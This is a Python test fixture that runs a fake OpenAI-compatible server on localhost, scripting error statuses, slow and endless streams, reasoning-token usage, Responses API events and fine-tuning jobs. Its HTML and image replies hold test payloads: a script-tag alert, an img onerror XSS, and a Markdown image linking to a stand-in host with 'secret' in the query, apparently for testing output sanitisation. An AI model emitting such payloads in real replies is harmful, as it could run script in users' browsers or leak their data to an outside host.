"""A tiny OpenAI-compatible HTTP server on 127.0.0.1 for tests of the openai-SDK path.

The requested *model name* picks the behaviour:

- ``status-401`` / ``status-403`` / ``status-404`` / ``status-429`` / ``status-500`` / ``status-503``:
  that HTTP status with an OpenAI-style error body (``quota-429`` adds ``code: insufficient_quota``;
  ``status-<n>-<code>``, e.g. ``status-403-training_not_available``, sends that error code);
- ``slow``: waits ``SLOW_S`` seconds before answering (for timeouts);
- ``echo``: streams ``REPLY`` in a few chunks without usage (like llama.cpp's server);
- ``echo-usage``: the same, with a final usage chunk (like OpenAI with include_usage);
- ``endless`` streams text without end, ignoring max_tokens; ``trickle`` sends empty chunks without end;
- ``html``: streams ``HTML_REPLY``; ``image``: streams ``IMAGE_REPLY`` (a Markdown image and an HTML one);
- ``gpt-6…``, ``gpt-5…``, ``o3…``: ``REPLY`` with a usage that counts ``REASONING_TOKENS`` reasoning tokens.

Besides Chat Completions (any other path) it speaks, minimally:

- ``/v1/responses`` (the Responses API): ``REPLY`` as output text, streamed as ``response.*`` events when
  ``stream`` is true, with a usage that counts ``REASONING_TOKENS`` reasoning tokens;
- ``/v1/files`` (an upload: a file object) and ``/v1/fine_tuning/jobs`` (a job, or the error set in
  ``FakeServer.job_error``, e.g. ``(403, "training_not_available")``).

Every request's Authorization header, all headers, path and JSON body are recorded in ``FakeServer.requests``
(an upload's body is recorded as ``{"bytes": <size>}``).
"""

from __future__ import annotations

import json
import threading
import time
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

REPLY = ["Hello", ", ", "learner", "!"]
HTML_REPLY = ["<script>alert('x')</script>", " <b>bold</b>"]
IMAGE_REPLY = ["Here: ![chart](http://evil.example/px.png?d=", "secret) and <img src=x onerror=alert(1)>"]
USAGE = {"prompt_tokens": 11, "completion_tokens": 4, "total_tokens": 15}
SLOW_S = 3.0
REASONING_TOKENS = 7
RESPONSES_USAGE = {
    "input_tokens": 11,
    "input_tokens_details": {"cached_tokens": 0},
    "output_tokens": 4 + REASONING_TOKENS,
    "output_tokens_details": {"reasoning_tokens": REASONING_TOKENS},
    "total_tokens": 15 + REASONING_TOKENS,
}


@dataclass
class Recorded:
    authorization: str | None
    body: dict[str, Any]
    headers: dict[str, str] = field(default_factory=dict)  # every header, names in lower case
    path: str = ""


@dataclass
class FakeServer:
    server: ThreadingHTTPServer
    requests: list[Recorded] = field(default_factory=list)
    job_error: tuple[int, str] | None = None  # what /v1/fine_tuning/jobs answers instead of a job

    @property
    def url(self) -> str:
        host, port = self.server.server_address[:2]
        return f"http://{host}:{port}/v1"

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def _chunk(model: str, delta: dict[str, Any], finish: str | None = None) -> dict[str, Any]:
    return {
        "id": "chatcmpl-fake",
        "object": "chat.completion.chunk",
        "created": 0,
        "model": model,
        "choices": [{"index": 0, "delta": delta, "finish_reason": finish}],
    }


def start(port: int = 0) -> FakeServer:
    """A fake on 127.0.0.1:``port`` (0: any free port)."""
    fake: FakeServer

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: Any) -> None:  # keep test output quiet
            return

        def _json(self, status: int, payload: dict[str, Any]) -> None:
            data = json.dumps(payload).encode()
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def _forever(self, model: str) -> None:
            """Ignore max_tokens and never finish: text without end, or empty keep-alive chunks."""
            delta = {"content": "spam "} if model == "endless" else {}
            try:
                self.send_response(200)
                self.send_header("Content-Type", "text/event-stream")
                self.end_headers()
                while True:
                    self.wfile.write(f"data: {json.dumps(_chunk(model, delta))}\n\n".encode())
                    self.wfile.flush()
                    time.sleep(0.001 if model == "endless" else 0.05)
            except (BrokenPipeError, ConnectionResetError):
                return

        def do_GET(self) -> None:
            self._json(200, {"object": "list", "data": [{"id": "echo", "object": "model"}]})

        def _events(self, events: list[tuple[str, dict[str, Any]]]) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/event-stream")
            self.end_headers()
            for name, data in events:
                self.wfile.write(f"event: {name}\ndata: {json.dumps({'type': name, **data})}\n\n".encode())
                self.wfile.flush()

        def _responses(self, body: dict[str, Any]) -> None:
            model = str(body.get("model", ""))
            text = "".join(REPLY)
            message = {"type": "message", "id": "msg-fake", "status": "completed", "role": "assistant",
                       "content": [{"type": "output_text", "text": text, "annotations": []}]}  # fmt: skip
            done = {"id": "resp-fake", "object": "response", "created_at": 0, "status": "completed",
                    "model": model, "output": [message], "usage": RESPONSES_USAGE,
                    "parallel_tool_calls": True, "tool_choice": "auto", "tools": []}  # fmt: skip
            if not body.get("stream"):
                self._json(200, done)
                return
            started = {**done, "status": "in_progress", "output": [], "usage": None}
            events = [("response.created", {"response": started, "sequence_number": 0})]
            events += [
                ("response.output_text.delta",
                 {"item_id": "msg-fake", "output_index": 0, "content_index": 0, "delta": piece,
                  "sequence_number": i + 1, "logprobs": []})
                for i, piece in enumerate(REPLY)
            ]  # fmt: skip
            events.append(("response.completed", {"response": done, "sequence_number": len(REPLY) + 1}))
            self._events(events)

        def _job(self) -> None:
            if fake.job_error is not None:
                status, code = fake.job_error
                self._json(status, {"error": {"message": f"fake {code}", "type": "fake", "code": code}})
                return
            self._json(200, {"id": "ftjob-fake", "object": "fine_tuning.job", "created_at": 0,
                             "error": None, "fine_tuned_model": None, "finished_at": None,
                             "hyperparameters": {"n_epochs": 3}, "model": "m", "organization_id": "org",
                             "result_files": [], "seed": 1, "status": "validating_files",
                             "trained_tokens": None, "training_file": "file-fake",
                             "validation_file": None})  # fmt: skip

        def do_POST(self) -> None:
            length = int(self.headers.get("Content-Length", "0"))
            raw = self.rfile.read(length)
            headers = {name.lower(): value for name, value in self.headers.items()}
            if self.path.endswith("/files"):
                fake.requests.append(
                    Recorded(self.headers.get("Authorization"), {"bytes": length}, headers, self.path)
                )
                self._json(200, {"id": "file-fake", "object": "file", "bytes": length, "created_at": 0,
                                 "filename": "f.jsonl", "purpose": "fine-tune",
                                 "status": "uploaded"})  # fmt: skip
                return
            body = json.loads(raw or b"{}")
            fake.requests.append(Recorded(self.headers.get("Authorization"), body, headers, self.path))
            if self.path.endswith("/fine_tuning/jobs"):
                self._job()
                return
            model = str(body.get("model", ""))
            if model.startswith(("status-", "quota-")):
                _, number, *rest = model.split("-", 2)
                status = int(number)
                code = "insufficient_quota" if model.startswith("quota-") else (rest[0] if rest else None)
                self._json(status, {"error": {"message": f"fake {status}", "type": "fake", "code": code}})
                return
            if model == "slow":
                time.sleep(SLOW_S)
            if self.path.endswith("/responses"):
                self._responses(body)
                return
            pieces = {"html": HTML_REPLY, "image": IMAGE_REPLY}.get(model, REPLY)
            events = [_chunk(model, {"role": "assistant"})]
            events += [_chunk(model, {"content": p}) for p in pieces]
            events.append(_chunk(model, {}, "stop"))
            if model == "echo-usage":
                events.append({**_chunk(model, {}), "choices": [], "usage": USAGE})
            if model.startswith(("gpt-6", "gpt-5", "o3")):  # reasoning models report their reasoning tokens
                details = {"reasoning_tokens": REASONING_TOKENS}
                usage = {
                    **USAGE,
                    "completion_tokens": 4 + REASONING_TOKENS,
                    "completion_tokens_details": details,
                }
                events.append({**_chunk(model, {}), "choices": [], "usage": usage})
            if model in ("endless", "trickle"):
                self._forever(model)
                return
            try:
                self.send_response(200)
                self.send_header("Content-Type", "text/event-stream")
                self.end_headers()
                for event in events:
                    self.wfile.write(f"data: {json.dumps(event)}\n\n".encode())
                    self.wfile.flush()
                self.wfile.write(b"data: [DONE]\n\n")
                self.wfile.flush()
            except (BrokenPipeError, ConnectionResetError):  # the client gave up (timeout test)
                return

    server = ThreadingHTTPServer(("127.0.0.1", port), Handler)
    server.daemon_threads = True
    fake = FakeServer(server)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return fake


def free_port() -> int:
    """A port on 127.0.0.1 with nothing listening (bound once, then released)."""
    from tests.e2e.harness import free_port as harness_free_port

    return harness_free_port()
